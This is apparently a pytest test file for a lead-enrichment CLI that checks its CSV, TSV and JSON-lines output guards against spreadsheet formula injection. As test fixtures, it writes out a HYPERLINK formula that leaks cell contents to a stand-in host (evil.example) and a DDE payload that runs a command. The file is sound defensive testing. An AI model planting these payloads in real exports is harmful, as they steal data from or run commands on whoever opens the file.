"""Spreadsheet formula injection: a server value or an input cell starting with =, +, -, @, a tab
or a carriage return would run as a formula when the CSV/TSV is opened in a spreadsheet. Result
cells are neutralised by default (a ' in front; a plain number stays), input cells with
`--escape-formulas all`, nothing with `none`; JSON lines are never altered."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from enrichso.cli.batch.fanout import EnrichedRows, output_columns
from enrichso.cli.batch.formulas import EscapeFormulas, escaped_columns, neutralised
from enrichso.cli.batch.output import OutputFormat, open_output
from enrichso.cli.batch.plan import plan_batch
from enrichso.cli.tabular.source import InputFile
from enrichso.pipeline.needs import EMAIL_VALIDATION
from enrichso.pipeline.result import PipelineResult

from .conftest import Org
from .files import read_csv, read_csv_text
from .hostile import HostileRun, hostile  # noqa: F401  (the fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1e3", "-1e3"),
        ("GOOGLE", "GOOGLE"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_a_number_stays(cell: str, written: str) -> None:
    assert neutralised(cell) == written


def _results(raws: list[dict[str, Any]]) -> Iterator[Any]:
    for index, raw in enumerate(raws):
        yield PipelineResult(index, None, raw, None, None)


def _write_batch(tmp_path: Path, text: str, policy: EscapeFormulas, format: OutputFormat) -> str:
    """The output pass of a batch whose API answered `provider` = HOSTILE for every row."""
    path = tmp_path / "in.csv"
    path.write_text(text)
    plan = plan_batch(InputFile("in.csv", path, ".csv"), EMAIL_VALIDATION, input_format=None, named={})
    list(plan.checked_items())
    raws = [{"result": "valid", "provider": HOSTILE, "message": "-5"}] * plan.rows
    rows = EnrichedRows(plan, _results(raws), cells=format is not OutputFormat.JSONL)
    columns = output_columns(plan)
    out = tmp_path / f"out.{format.value}"
    escape = escaped_columns(policy, columns, EMAIL_VALIDATION.output_columns)
    with open_output(str(out), format, columns, escape=escape) as writer:
        for row in rows:
            (writer.write_cells if rows.cells else writer.write)(row)
    return out.read_text()


INPUT = 'email,=note\n"jane@acme.com","=1+2"\n'


def test_result_cells_are_neutralised_by_default_and_input_cells_are_not(tmp_path: Path) -> None:
    rows = read_csv_text(_write_batch(tmp_path, INPUT, EscapeFormulas.RESULTS, OutputFormat.CSV))
    assert rows[0]["enrich_provider"] == "'" + HOSTILE
    assert rows[0]["enrich_message"] == "-5"  # a plain number
    assert rows[0]["=note"] == "=1+2"  # the user's own cell, as it was


def test_all_also_neutralises_the_input_cells_and_header(tmp_path: Path) -> None:
    written = _write_batch(tmp_path, INPUT, EscapeFormulas.ALL, OutputFormat.CSV)
    rows = read_csv_text(written)
    assert rows[0]["'=note"] == "'=1+2"
    assert rows[0]["enrich_provider"] == "'" + HOSTILE


def test_none_and_json_lines_write_the_values_as_they_are(tmp_path: Path) -> None:
    rows = read_csv_text(_write_batch(tmp_path, INPUT, EscapeFormulas.NONE, OutputFormat.CSV))
    assert rows[0]["enrich_provider"] == HOSTILE
    lines = _write_batch(tmp_path, INPUT, EscapeFormulas.ALL, OutputFormat.JSONL)
    record = json.loads(io.StringIO(lines).readline())
    assert record["enrich_provider"] == HOSTILE and record["=note"] == "=1+2"


def test_tsv_is_neutralised_too(tmp_path: Path) -> None:
    written = _write_batch(tmp_path, INPUT, EscapeFormulas.RESULTS, OutputFormat.TSV)
    rows = list(csv.DictReader(io.StringIO(written), delimiter="\t"))
    assert rows[0]["enrich_provider"] == "'" + HOSTILE


# --- through the command line, against the simulator: an email may start with = or +
FORMULA_EMAILS = "email,note\n=cmd@acme.com,=2+3\n+jane@acme.com,-7\n"


def test_batch_escape_formulas_all_neutralises_the_input_cells(enrichso, org: Org, tmp_path: Path):
    source = tmp_path / "in.csv"
    source.write_text(FORMULA_EMAILS)
    out = tmp_path / "out.csv"
    run = enrichso("email-validation", "batch", str(source), "-o", str(out), "--escape-formulas", "all")
    assert run.code == 0, run.stderr
    rows = read_csv(out)
    assert [(r["email"], r["note"]) for r in rows] == [("'=cmd@acme.com", "'=2+3"), ("'+jane@acme.com", "-7")]
    default = enrichso("email-validation", "batch", str(source), "-o", str(out))
    assert default.code == 0, default.stderr
    assert [r["email"] for r in read_csv(out)] == ["=cmd@acme.com", "+jane@acme.com"]


def test_jobs_results_neutralises_what_the_api_sends_back(enrichso, org: Org, tmp_path: Path):
    submitted = enrichso("email-validation", "batch", "-", "--no-wait", input="=cmd@acme.com\n")
    assert submitted.code == 0, submitted.stderr
    job_id = submitted.stdout.strip()
    run = enrichso("jobs", "results", "email-validation", job_id)
    assert run.code == 0, run.stderr
    assert read_csv_text(run.stdout)[0]["email"] == "'=cmd@acme.com"  # echoed by the API
    raw = enrichso("jobs", "results", "email-validation", job_id, "--escape-formulas", "none")
    assert read_csv_text(raw.stdout)[0]["email"] == "=cmd@acme.com"


def test_an_export_the_api_makes_is_neutralised_and_checked_first(
    hostile: HostileRun,  # noqa: F811
    org: Org,
    tmp_path: Path,
):
    refused = hostile(
        "lead-finder",
        "export",
        "-f",
        "jobTitle=CTO",
        "--max-results",
        "3",
        "-o",
        "/proc/leads.csv",
        values={},
    )
    assert refused.code == 2, refused.stderr
    assert [t["type"] for t in org.ledger()["transactions"]] == ["topup"]  # the export never started
    out = tmp_path / "leads.csv"

    def formula_first(text: str) -> str:  # the first cell of the first row becomes a formula
        return text.replace("\n", "\n" + HOSTILE.replace('"', "") + " ", 1)

    args = ("lead-finder", "export", "-f", "jobTitle=CTO", "--max-results", "3", "-o", str(out))
    run = hostile(*args, values={}, csv_text=formula_first)
    assert run.code == 0, run.stderr
    rows = read_csv(out)
    assert len(rows) == 3
    first = next(iter(rows[0].values()))
    assert first.startswith("'=HYPERLINK(")
